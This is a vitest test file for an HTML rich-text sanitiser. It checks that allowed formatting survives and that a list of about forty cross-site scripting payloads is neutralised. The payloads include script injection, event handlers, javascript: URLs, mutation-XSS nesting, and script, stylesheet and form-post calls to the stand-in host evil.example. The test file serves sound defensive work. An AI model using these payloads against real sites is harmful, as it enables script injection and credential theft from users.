import { expect, test } from 'vitest';
import { sanitiseRichText } from './sanitise-rich-text.ts';

test('keeps the marks that authors may use', () => {
  const html =
    '<p>How <strong>was</strong> <em>it</em>, <u>really</u>?<br /><s>old</s></p><ul><li>a</li></ul><ol><li>b</li></ol>';
  expect(sanitiseRichText(html)).toBe(html);
});

test('keeps links to web and mail addresses', () => {
  const html = '<a href="https://example.com/?a=1&amp;b=2">x</a> <a href="mailto:a@example.com">y</a>';
  expect(sanitiseRichText(html)).toBe(html);
});

test('keeps Persian text with its half-spaces', () => {
  expect(sanitiseRichText('<p>می‌خواهید؟ «بله»</p>')).toBe('<p>می‌خواهید؟ «بله»</p>');
});

test('text with a sign that looks like markup stays text', () => {
  expect(sanitiseRichText('5 < 6 & 7')).toBe('5 &lt; 6 &amp; 7');
});

test('turns the marks of other editors into ours', () => {
  expect(sanitiseRichText('<b>a</b><i>b</i><del>c</del>')).toBe('<strong>a</strong><em>b</em><s>c</s>');
});

test('cleans its own result to the same text', () => {
  const once = sanitiseRichText('<p onclick=x>5 < 6 <b>a</b> &amp;lt;script&amp;gt;</p><svg><p>');
  expect(sanitiseRichText(once)).toBe(once);
});

/** Every payload must come out without anything that a browser would run or load. */
const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<p onclick="alert(1)" style="position:fixed">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://x" onmouseover="alert(1)" target="_top">x</a>',
  '<a href="https://x&quot; onmouseover=&quot;alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><script>alert(1)</script></iframe>',
  '<xmp><script>alert(1)</script></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<plaintext><script>alert(1)</script>',
  '<style>@import "//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<form action=//evil.example><input name=password><button>x</button></form>',
  '<object data=//evil.example></object><embed src=//evil.example>',
  '<video src=x onerror=alert(1)><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!DOCTYPE html [<!ENTITY x "<script>">]>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p><a href="https://x">'.repeat(50).concat('<script>alert(1)</script>'),
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

test.each(payloads)('makes %s harmless', (payload) => {
  const clean = sanitiseRichText(payload);
  const tags = [...clean.matchAll(/<[^>]*>/g)].map(([tag]) => tag);
  const allowed = /^<(?:\/?(?:p|strong|em|u|s|ul|ol|li)|br \/|\/a|a|a href="(?:https?:|mailto:)[^"<>]*")>$/;
  expect(tags.filter((tag) => !allowed.test(tag))).toEqual([]);
  expect(clean.replace(/<[^>]*>/g, '')).not.toMatch(/[<>]/);
});
